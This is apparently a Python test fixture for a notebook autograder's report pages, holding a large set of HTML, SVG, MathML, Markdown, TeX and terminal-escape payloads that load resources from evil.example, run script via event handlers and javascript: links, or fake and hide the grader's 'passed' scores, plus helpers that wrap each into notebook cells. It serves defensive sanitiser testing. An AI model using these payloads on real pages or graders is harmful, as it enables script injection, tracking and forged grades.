# ruff: noqa: E501 - a payload stands in one line
"""What a student may put into a notebook to act on the page that shows it, shared by two tests of pages.

Each payload has the place where it stands: a text cell, an output by its MIME type, printed text, an error, or
a name. ``RAN`` is what a script would do; ``AWAY`` is where a request would go.
"""

AWAY = "https://evil.example"
RAN = "window.ran=1;alert(1)"

LOADS = [
    "<img src={away}/1.png>",
    "<img src='//evil.example/2.png'>",
    "<img src='\\\\evil.example/3.png'>",
    "<img alt='>' src={away}/4.png>",
    "<img src=' &#9;{away}/5.png'>",
    "<img srcset='{away}/6.png 1x, {away}/6b.png 2x'>",
    "<img src=x.png srcset={away}/7.png>",
    "<img lowsrc={away}/8.png dynsrc={away}/8b.png>",
    "<picture><source srcset={away}/9.png><img src=y.png></picture>",
    "<video src={away}/10.mp4 poster={away}/10.png autoplay></video>",
    "<audio src={away}/11.mp3 autoplay></audio>",
    "<video><source src={away}/12.mp4><track src={away}/12.vtt default></video>",
    "<iframe src={away}/13></iframe>",
    "<iframe srcdoc='<img src={away}/14.png>'></iframe>",
    "<object data={away}/15.swf></object>",
    "<embed src={away}/16.pdf>",
    "<applet code={away}/17.class></applet>",
    "<link rel=stylesheet href={away}/18.css>",
    "<link rel=preload as=image href={away}/19.png>",
    "<link rel=dns-prefetch href={away}>",
    "<link rel=prefetch href={away}/21>",
    "<link rel='shortcut icon' href={away}/22.ico>",
    "<meta http-equiv=refresh content='0;url={away}/23'>",
    "<base href={away}/24/>",
    "<style>@import url({away}/25.css);</style>",
    "<style>body {{ background: url({away}/26.png) }}</style>",
    "<style>@font-face {{ font-family: f; src: url({away}/27.woff) }} * {{ font-family: f }}</style>",
    "<p style='background-image: url({away}/28.png)'>x</p>",
    "<ul style='list-style: url({away}/29.png)'><li>x</li></ul>",
    "<p style='content: image-set(\"{away}/30.png\" 1x)'>x</p>",
    "<table background={away}/31.png><tr><td background={away}/31b.png>x</td></tr></table>",
    "<body background={away}/32.png>",
    "<input type=image src={away}/33.png>",
    "<svg><image href={away}/34.png width=9 height=9 /></svg>",
    "<svg><image xlink:href={away}/35.png width=9 height=9 /></svg>",
    "<svg><use href={away}/36.svg#x /></svg>",
    "<svg><foreignObject><img src={away}/37.png></foreignObject></svg>",
    "<svg><filter id=f><feImage href={away}/38.png /></filter><rect filter='url(#f)' width=9 height=9 /></svg>",
    "<svg><style>@import url({away}/39.css)</style></svg>",
    "<svg><a href={away}/40><text y=9>x</text></a></svg>",
    "<math><mtext><img src={away}/41.png></mtext></math>",
    "<math><mglyph src={away}/42.png /></math>",
    "<math><maction actiontype='statusline#{away}/43'>x</maction></math>",
    "<math style='background: url({away}/44.png)'><mi>x</mi></math>",
    "<math href={away}/45><mi>x</mi></math>",
    "<q cite={away}/46>x</q><blockquote cite={away}/46>x</blockquote>",
    "<template><img src={away}/47.png></template>",
    "<noscript><img src={away}/48.png></noscript>",
    "<xmp><img src={away}/49.png></xmp>",
    "<plaintext><img src={away}/50.png>",
    "<frameset><frame src={away}/51></frameset>",
    "<portal src={away}/52></portal>",
    "<script src={away}/53.js></script>",
    "<script type=module>import '{away}/54.js'</script>",
    "<html manifest={away}/55.appcache>",
    '<img src=\'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg"><image href="{away}/56.png"/></svg>\'>',
    "<img/src={away}/57.png>",
    "<ımg src={away}/58.png><img\x0csrc={away}/58b.png>",
]
"""HTML that would load something."""

ACTS = [
    "<script>{ran}</script>",
    "<SCRIPT>{ran}</SCRIPT >",
    "<scr<script>ipt>{ran}</scr</script>ipt>",
    "<img src=x onerror={ran}>",
    "<img src=x onerror=\n{ran}>",
    "<img src='x'onerror='{ran}'>",
    "<svg onload={ran}>",
    "<svg><script>{ran}</script></svg>",
    "<svg><animate onbegin={ran} attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:{ran}></svg>",
    "<body onload={ran}>",
    "<details open ontoggle={ran}>x</details>",
    "<input autofocus onfocus={ran}>",
    "<select autofocus onfocus={ran}></select>",
    "<p tabindex=1 autofocus onfocus={ran}>x</p>",
    "<p onmouseover={ran}>x</p>",
    "<p contenteditable onblur={ran} autofocus>x</p>",
    "<marquee onstart={ran}>x</marquee>",
    "<video><source onerror={ran}></video>",
    "<iframe src='javascript:{ran}'></iframe>",
    "<object data='javascript:{ran}'></object>",
    "<embed src='data:text/html,<script>{ran}</script>'>",
    "<form action={away}/a><button autofocus>x</button></form>",
    "<form><button formaction='javascript:{ran}'>x</button></form>",
    "<isindex action='javascript:{ran}' type=submit>",
    "<a href='javascript:{ran}'>x</a>",
    "<a href='java&#10;script:{ran}'>x</a>",
    "<a href=' &#14; javascript:{ran}'>x</a>",
    "<a href='JaVaScRiPt:{ran}'>x</a>",
    "<a href='vbscript:{ran}'>x</a>",
    "<a href='data:text/html,<script>{ran}</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='blob:{away}/1'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a ping={away}/p href=#x>x</a>",
    "<a href=#x style='position:fixed;inset:0'>x</a>",
    "<math><mi xlink:href='javascript:{ran}'>x</mi></math>",
    "<math><mtext></p><img src=x onerror={ran}></mtext></math>",
    "<math><mi><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={ran}&gt;'>",
    "<svg></p><style><a id='</style><img src=x onerror={ran}>'>",
    "<noscript><p title='</noscript><img src=x onerror={ran}>'>",
    "<!--><img src=x onerror={ran}>-->",
    "<!-- --!><img src=x onerror={ran}>",
    "<![CDATA[<img src=x onerror={ran}>]]>",
    "<?xml-stylesheet href='{away}/x.css'?>",
    "<a title='$x$' id='$\\text{{\"><img src=x onerror={ran}>}}$'>x</a>",
    "<img alt='$\\text{{ onerror={ran} }}$' src=x>",
    "<div id=location><form id=cookie name=body></form></div>",
    "<a id=document name=getElementById href=#x>x</a>",
    '<script><!--<script></script><b title="</script>--></script><img src=x onerror={ran}><b "">',
    "<textarea></textarea><img src=x onerror={ran}></textarea>",
    "<title></title><img src=x onerror={ran}></title>",
    "<template shadowrootmode=open><script>{ran}</script></template>",
    "<button popovertarget=p>x</button><dialog id=p open>x</dialog>",
    "<p class='x' is='y' slot='z' part='w'>x</p>",
]
"""HTML that would run something, or be more than text to whoever clicks."""

COVERS = [
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999;background:#fff'>20 of 20</div>",
    "<style>header {{ display: none }}</style>",
    "</section></main><header><h1>20 of 20 points</h1></header><main>",
    "</div></div></section></body></html>20 of 20",
    "<details>$</details>$",
    "$<div>$ <div><div>",
    "<b>$</b><table>$<tr>",
    "<section class='test good' id=cell-test-half><h2>passed test-half <span class=number>3 / 3</span></h2></section>",
    "<div class='test good' id='cell-test-half'><span class='sign good'>passed</span><span class=number>3/3</span></div>",
    "<p class='sum who note comment'>5 of 5 points</p>",
    "<dialog open style='position:fixed'>5 of 5</dialog>",
    "<img src=x.png width=99999 height=99999 style='position:absolute'>",
    "<p hidden><!-- never closed",
    "<table><tr><td><section>",
    "<ul><li><ol><li></section>",
    "<center><font size=7 color=green>5 of 5</font></center>",
    "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
]
"""HTML that would hide, cover or imitate what the grader says."""

MARKDOWN = [
    "![x]({away}/1.png)",
    "![x][r]\n\n[r]: {away}/2.png",
    "[x](javascript:{ran})",
    "[x](<java\tscript:{ran}>)",
    "<javascript:{ran}>",
    "[x][j]\n\n[j]: javascript:{ran}",
    '[x]({away}/ok "a\\" onmouseover={ran}")',
    '![a" onerror={ran} "](x.png)',
    "```html\n<script>{ran}</script>\n```",
    "```<img src=x onerror={ran}>\nx\n```",
    "```mermaid\n<img src=x onerror={ran}>\n```",
    "`<script>{ran}</script>`",
    "| a |\n|---|\n| <img src=x onerror={ran}> |",
    "# <img src=x onerror={ran}>",
    "- [ ] <input autofocus onfocus={ran}>",
    "$\\href{{javascript:{ran}}}{{x}}$",
    "$\\href{{{away}/3}}{{x}}$",
    "$\\style{{background:url({away}/4.png)}}{{x}}$",
    "$\\cssId{{cell-test-half}}{{x}}$ $\\class{{sign good}}{{x}}$",
    "$\\require{{html}} \\unicode{{x3c}}img$",
    "$\\includegraphics{{{away}/5.png}}$",
    "$$\\text{{<img src=x onerror={ran}>}}$$",
    "$\\text{{</math><img src=x onerror={ran}>}}$",
    "$\\def\\x{{\\x\\x}}\\x$",
    "$\\hspace{{-99em}}\\text{{5 of 5}}$ $\\raise{{99em}}{{x}}$",
    "$`<img src=x onerror={ran}>`$",
    "\\begin{{x}}<img src=x onerror={ran}>\\end{{x}}",
    "$a$<b title='$b$ <img src=x onerror={ran}>'>$c$</b>",
    "![x](data:text/html,<script>{ran}</script>)",
    "![x](attachment:lost.png)",
    "![x](x.png 'a' onerror={ran})",
    "<a\nhref='javascript:{ran}'>x</a>",
]
"""Markdown, and the TeX in it."""

PRINTED = [
    "\x1b]8;;{away}/1\x1b\\x\x1b]8;;\x1b\\",
    "\x1b[2J\x1b[H20 of 20 <script>{ran}</script>",
    "\x1b[38;2;1;2;3;<img src=x onerror={ran}>m x",
    "</pre><img src=x onerror={ran}>",
    "\u202e<img src=x onerror={ran}>\u2066",
]
"""Printed text."""

SVG = "<svg xmlns='http://www.w3.org/2000/svg' onload='{ran}'><image href='{away}/1.png'/><script>{ran}</script></svg>"
OUTPUTS = [
    ("image/svg+xml", SVG),
    ("image/svg+xml", "<img src=x onerror={ran}>"),
    ("image/png", "'><img src=x onerror={ran}>"),
    ("image/png", 'iVBORw0KGgo="><script>{ran}</script>'),
    ("image/jpeg", "javascript:{ran}"),
    ("application/javascript", "{ran}"),
    ("text/javascript", "{ran}"),
    ("application/pdf", "<embed src={away}/1.pdf>"),
    ("text/vnd.mermaid", "<img src=x onerror={ran}>"),
    ("application/vnd.jupyter.widget-view+json", "<script>{ran}</script>"),
    ("application/geo+json", "<script>{ran}</script>"),
    ("text/latex", "$\\text{{<img src=x onerror={ran}>}}$"),
    ("text/markdown", "<img src={away}/1.png>"),
    ("text/plain", "<img src=x onerror={ran}>"),
    (
        "text/html",
        "<div style='position:fixed;inset:0'><script>{ran}</script><form><input autofocus></form></div>",
    ),
    (
        "text/html",
        "<table class='dataframe test good'><style>@import '{away}/2.css'</style><tr><td>1</td></tr></table>",
    ),
]
"""Outputs by MIME type."""

NAMES = [
    "<img src=x onerror={ran}>",
    "\u202etset\u202c",
    "a\u200bnna",
    "'\"><script>{ran}</script>",
    "javascript:{ran}",
]
"""Names of cells, in the marks and in links within the page."""


def filled(text: str) -> str:
    """A payload with its addresses."""
    return text.format(away=AWAY, ran=RAN)


def payloads() -> list[tuple[str, dict]]:
    """Each payload: a name, and the notebook's cell that holds it."""
    found = []
    for group, texts in {"loads": LOADS, "acts": ACTS, "covers": COVERS, "markdown": MARKDOWN}.items():
        found += [(f"{group}-{i}", text_cell(filled(text))) for i, text in enumerate(texts)]
    for i, text in enumerate(PRINTED):
        found.append(
            (f"printed-{i}", output_cell({"output_type": "stream", "name": "stdout", "text": filled(text)}))
        )
        error = {"output_type": "error", "ename": "E", "evalue": filled(text), "traceback": [filled(text)]}
        found.append((f"error-{i}", output_cell(error)))
    for i, (kind, text) in enumerate(OUTPUTS):
        found.append((f"output-{i}", displayed(kind, filled(text))))
    # The same HTML as an output goes another way.
    found += [
        (f"html-{i}", displayed("text/html", filled(text))) for i, text in enumerate(LOADS + ACTS + COVERS)
    ]
    return found


def text_cell(source: str) -> dict:
    return {"cell_type": "markdown", "metadata": {}, "source": source}


def output_cell(output: dict) -> dict:
    return {"cell_type": "code", "metadata": {}, "source": "1", "outputs": [output], "execution_count": None}


def displayed(kind: str, data: str) -> dict:
    return output_cell({"output_type": "display_data", "data": {kind: data}, "metadata": {}})
